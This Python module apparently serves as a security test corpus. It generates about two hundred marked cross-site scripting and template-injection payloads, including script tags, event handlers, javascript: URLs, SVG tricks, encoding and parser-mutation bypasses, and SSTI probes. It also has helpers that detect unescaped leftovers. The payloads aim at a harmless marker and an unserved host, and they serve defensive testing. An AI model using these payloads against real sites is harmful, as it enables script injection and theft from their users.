"""Two hundred texts that would run, load or break something if a page took one for markup.

Each holds a mark of its own (`xq.017`), so that what is left of it is found wherever it went. `{x}`
stands for code that tells it ran, `{n}` for the mark, and `{u}` for an address that nobody serves.
No text holds `SEPARATOR`, which stands between them when several are joined.
"""

import re
from collections.abc import Iterable, Mapping

SEPARATOR = "¦"
MARK = "xq."
"""How every mark begins; nothing of ours does, and no token has a full stop there."""
HOST = "xss.example.invalid"
"""Where the texts try to load something from."""
PROOF = "__xss"
"""The name in a window that code in them sets."""

_ELEMENTS = """
<script>{x}</script>
<script src={u}></script>
</p><script>{x}</script><p>
</textarea><script>{x}</script>
</title><script>{x}</script>
</option></select><script>{x}</script>
</style><script>{x}</script>
</noscript><script>{x}</script>
</template><script>{x}</script>
</main></body><script>{x}</script>
<iframe src={u}></iframe>
<iframe srcdoc="<script>parent.{x}</script>">
<object data={u}></object>
<embed src={u}>
<base href={u}>
<link rel=stylesheet href={u}>
<meta http-equiv=refresh content="0;url={u}">
<form action={u}><input name=q autofocus>
<button formaction={u}>{n}</button>
<b>{n}</b>
<p id={n}>
<h1 class={n}>
<img src={u}>
<video poster={u}>
<audio src={u} autoplay>
<input type=image src={u}>
<a href={u} target=_blank>{n}</a>
"""
_DOUBLE_QUOTES = """
"><script>{x}</script>
"><img src={u}>
" onfocus={x} autofocus x="
" onmouseover="{x}
" style="background:url({u})
" src="{u}
" href="javascript:{x}
" formaction="{u}
" accesskey="x" onclick="{x}
"/><svg onload={x}>
"]}<script>{x}</script>
" id="{n}" data-x="
"""
_SINGLE_QUOTES = """
'><script>{x}</script>
'><img src={u}>
' onfocus={x} autofocus x='
' onmouseover='{x}
' style='background:url({u})
' href='javascript:{x}
'/><svg onload={x}>
';{x};'
'+({x})+'
\\';{x};//
"""
_NO_QUOTES = """
x onfocus={x} autofocus
x onclick={x}
x style=background:url({u})
x/onmouseover={x}/
x> <script>{x}</script>
x src={u}
`onfocus={x} autofocus x=`
x tabindex=1 onfocusin={x} autofocus
"""
_HANDLERS = """
<img src=x onerror={x}>
<img src=x onerror="{x}">
<img src=x onerror='{x}'>
<body onload={x}>
<body onpageshow={x}>
<input autofocus onfocus={x}>
<select autofocus onfocus={x}>
<textarea autofocus onfocus={x}>
<details open ontoggle={x}>
<video src=x onerror={x}>
<audio src=x onerror={x}>
<video><source onerror={x}>
<marquee onstart={x}>
<object data=x onerror={x}>
<style onload={x}></style>
<link rel=stylesheet href=x onerror={x}>
<iframe onload={x}>
<a tabindex=1 autofocus onfocus={x}>
<p onanimationstart={x}>
<b oncontentvisibilityautostatechange={x}>
<div popover id=a onbeforetoggle={x}>
<img/src=x/onerror={x}>
<img src=x onerror = {x} >
<b onpointerenter={x}>{n}
"""
_ADDRESSES = """
javascript:{x}
javascript:{x}//
JaVaScRiPt:{x}
javascript://%0a{x}
javascript&colon;{x}
javascript&#58;{x}
javascript%3A{x}
vbscript:{n}
data:text/html,<script>{x}</script>
data:text/html;base64,PHNjcmlwdD54cQ=={n}
data:image/svg+xml,<svg onload={x}>
blob:{u}
{u}
http:{u}
\\\\xss.example.invalid/{n}
/\\xss.example.invalid/{n}
///xss.example.invalid/{n}
/..//xss.example.invalid/{n}
http:xss.example.invalid/{n}
/visits@xss.example.invalid/{n}
//user:pass@xss.example.invalid/{n}
"""
_FOREIGN = """
<svg onload={x}>
<svg/onload={x}>
<svg><script>{x}</script></svg>
<svg><script href={u} /></svg>
<svg><a href=javascript:{x}><text>{n}
<svg><animate onbegin={x} attributeName=x dur=1s>
<svg><set onbegin={x} attributeName=x>
<svg><use href={u}#x></svg>
<svg><image href={u}></svg>
<svg><style>@import '{u}'</style>
<svg><foreignObject><img src=x onerror={x}>
<math><mtext><script>{x}</script>
<math href=javascript:{x}>{n}
<math><maction actiontype=statusline>{n}
"""
_TEMPLATES = """
{{7*7}}{n}
{{ config }}{n}
{{ self.__init__.__globals__ }}{n}
{{ "{n}" | safe }}
{% if 1 %}{n}{% endif %}
{% raw %}{n}{% endraw %}
{# {n} #}
{%- include "base.html" -%}{n}
${7*7}{n}
${{{x}}}
#{7*7}{n}
<%= 7*7 %>{n}
*{7*7}{n}
@{7*7}{n}
%({n})s %s %d
{0.__class__}{n}
[[{n}]]
"""
_SCRIPT_DATA = """
</script><script>{x}</script>
</ScRiPt ><img src=x onerror={x}>
</script/x><script>{x}</script>
<!--<script>{n}
--><script>{x}</script>
<!--{n}
-->{n}
]]><script>{x}</script>
"}];{x};//
\\"}];{x};//
\\u003cscript\\u003e{x}\\u003c/script\\u003e
\\x3cscript\\x3e{x}
{"__proto__":{"{n}":1}}
a\u2028{x}\u2029//
"""
_STYLES = """
<style>@import "{u}";</style>
<style>*{background:url({u})}</style>
}*{background:url({u})}{n}
;background:url({u});
expression({x})
</style><style>{n}{}
<b style="position:fixed;inset:0">{n}
<b style=behavior:url({u})>
"""
_COMMENTS = """
<!-- {n} -->
<!--><img src=x onerror={x}>-->
<!--!><img src=x onerror={x}>
--!><script>{x}</script>
<?xml version="1.0"?>{n}
<!DOCTYPE html>{n}
<![CDATA[<img src=x onerror={x}>]]>
*/{x}/*
"""
_CASE_AND_SPACE = """
<ScRiPt>{x}</sCrIpT>
<SCRIPT>{x}</SCRIPT>
<IMG SRC=x ONERROR={x}>
<sCrIpT/x>{x}</ScRiPt >
<script\t>{x}</script\t>
<iMg sRc=x oNeRrOr={x}//
< script>{x}</script>
<<script>{x}//<</script>
<scr<script>ipt>{x}</scr</script>ipt>
"""
_ENCODED = """
&lt;script&gt;{x}&lt;/script&gt;
&#60;script&#62;{x}&#60;/script&#62;
&#x3c;img src=x onerror={x}&#x3e;
&amp;lt;img src=x onerror={x}&amp;gt;
%3Cscript%3E{x}%3C/script%3E
%253Cscript%253E{x}
&quot;&gt;&lt;img src=x onerror={x}&gt;
+ADw-script+AD4-{x}+ADw-/script+AD4-
%c0%bcscript%c0%be{x}
\u00c0\u00bcscript\u00c0\u00be{x}
\uff1cscript\uff1e{x}\uff1c/script\uff1e
\u02baonfocus={x} autofocus\u02ba
"""
_NAMES = """
<form id=token><input name={n}>
<img name=querySelector id={n}>
<form name=body id={n}>
<input name=action value={n}>
<a id=fetch href={u}>
"""
_MANY_AT_ONCE = """
'"></script><img src=x onerror={x}>
javascript:/*'"--></script><svg onload={x}>
'"`><img src=x onerror={x}>//*/-->
</title></textarea></style><svg onload={x}>
"""
_CHANGED_BY_PARSING = """
<noscript><p title="</noscript><img src=x onerror={x}>">
<math><mtext><table><mglyph><style><img src=x onerror={x}>
<svg></p><style><a id="</style><img src=x onerror={x}>">
<table><td><form><b><img src=x onerror={x}>
<listing>&lt;img src=x onerror={x}&gt;</listing>
<select><template><img src=x onerror={x}>
<plaintext>{n}
"""
_LINES = (
    "java\nscript:{x}",
    "<img src=x\nonerror={x}>",
    "<script>\n{x}\n</script>",
)
_CONTROLLED = (
    "<scr\0ipt>{x}</scr\0ipt>",
    "\0<img src=x onerror={x}>",
    "<img src=x onerror\x0b={x}>",
    "<img\x0csrc=x\x0conerror={x}>",
    "\x01javascript:{x}",
    "java\x09script:{x}",
    "\x1b]0;{n}\x07<svg onload={x}>",
    "\u202e<script>{x}</script>",
    '\u2066" onfocus={x} autofocus\u2069',
    "\u200f\u200e<svg onload={x}>",
    "<svg\u00a0onload={x}>\ufeff",
)
_LONG = ("<b title=" + 3900 * "A" + " onclick={x}>",)

FAMILIES: Mapping[str, Iterable[str]] = {
    "elements": _ELEMENTS.strip("\n").split("\n"),
    "double quotes": _DOUBLE_QUOTES.strip("\n").split("\n"),
    "single quotes": _SINGLE_QUOTES.strip("\n").split("\n"),
    "no quotes": _NO_QUOTES.strip("\n").split("\n"),
    "handlers": _HANDLERS.strip("\n").split("\n"),
    "addresses": _ADDRESSES.strip("\n").split("\n"),
    "foreign elements": _FOREIGN.strip("\n").split("\n"),
    "templates": _TEMPLATES.strip("\n").split("\n"),
    "script data": _SCRIPT_DATA.strip("\n").split("\n"),
    "styles": _STYLES.strip("\n").split("\n"),
    "comments": _COMMENTS.strip("\n").split("\n"),
    "case and space": _CASE_AND_SPACE.strip("\n").split("\n"),
    "encoded": _ENCODED.strip("\n").split("\n"),
    "names in a document": _NAMES.strip("\n").split("\n"),
    "many at once": _MANY_AT_ONCE.strip("\n").split("\n"),
    "changed by parsing": _CHANGED_BY_PARSING.strip("\n").split("\n"),
    "lines": _LINES,
    "control characters": _CONTROLLED,
    "long": _LONG,
}

_UNSEEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
"""What no text of a visit may hold, except for tab and newline."""


def _marked(shape: str, number: int) -> str:
    mark = f"{MARK}{number:03}"
    parts = {"{x}": f"{PROOF}=/{mark}/", "{u}": f"//{HOST}/{mark}", "{n}": mark}
    for name, part in parts.items():
        shape = shape.replace(name, part)
    return shape


PAYLOADS = tuple(
    _marked(shape, number)
    for number, shape in enumerate(shape for family in FAMILIES.values() for shape in family)
)
ALL = SEPARATOR.join(PAYLOADS)
"""All in one text: longer than any field may hold, so a form that has it comes back."""


def accepted(*, lines: bool = False) -> tuple[str, ...]:
    """Give those that a text may be, by the characters in it; `lines` whether it may have many."""
    return tuple(
        payload
        for payload in PAYLOADS
        if not _UNSEEN.search(payload) and (lines or "\n" not in payload)
    )


def values(longest: int, *, lines: bool = False) -> tuple[str, ...]:
    """Join those that a text of some length may hold, in as few texts as their order allows."""
    found = [""]
    for payload in accepted(lines=lines):
        joined = f"{found[-1]}{SEPARATOR}{payload}" if found[-1] else payload
        if len(joined) <= longest:
            found[-1] = joined
        elif len(payload) <= longest:
            found.append(payload)
    return tuple(found)


def plain(text: str) -> str:
    """Give a text as it is compared: without what is not seen, and without spaces.

    Parsers put U+FFFD in the place of some characters that no page may hold.
    """
    return "".join(_UNSEEN.sub("", text).replace("\ufffd", "").split())


_PLAIN = tuple(sorted(map(plain, PAYLOADS), key=len, reverse=True))
"""The longest first: none is taken out of the middle of another."""


def left_of(text: str) -> str:
    """Give what is in a text of a payload that is not there in full; empty when there is nothing.

    The last payload may be cut short, as texts in lists are, and stand before a closing quote.
    """
    rest = plain(text)
    for payload in _PLAIN:
        rest = rest.replace(payload, "")
        if MARK not in rest:
            return ""
    before, _, last = rest.rpartition(SEPARATOR)
    cut = last.partition("”")[0].rstrip("…")
    is_cut = MARK not in before and MARK not in last[len(cut) :]
    return "" if is_cut and any(each.startswith(cut) for each in _PLAIN) else rest
